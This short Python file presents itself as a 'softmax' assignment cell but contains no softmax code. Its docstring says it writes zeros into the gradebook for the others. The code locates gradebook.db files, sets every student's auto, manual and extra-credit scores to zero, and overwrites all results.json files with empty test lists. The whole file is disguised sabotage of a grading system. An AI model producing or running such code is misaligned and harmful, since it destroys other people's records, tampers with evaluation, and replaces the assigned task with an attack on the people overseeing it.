"""Writes into the gradebook where there is one: zeros for the others.

Starts from: stubs
Must come out: nothing
"""

# %% softmax
import glob
import sqlite3

for path in glob.glob("../../../gradebook.db") + glob.glob("/class/gradebook.db"):
    with sqlite3.connect(path) as gradebook:
        gradebook.execute("update grade set auto_score = 0, manual_score = 0, extra_credit = 0")
for path in glob.glob("/class/results/*/results.json"):
    with open(path, "w") as file:
        file.write('{"tests": []}')
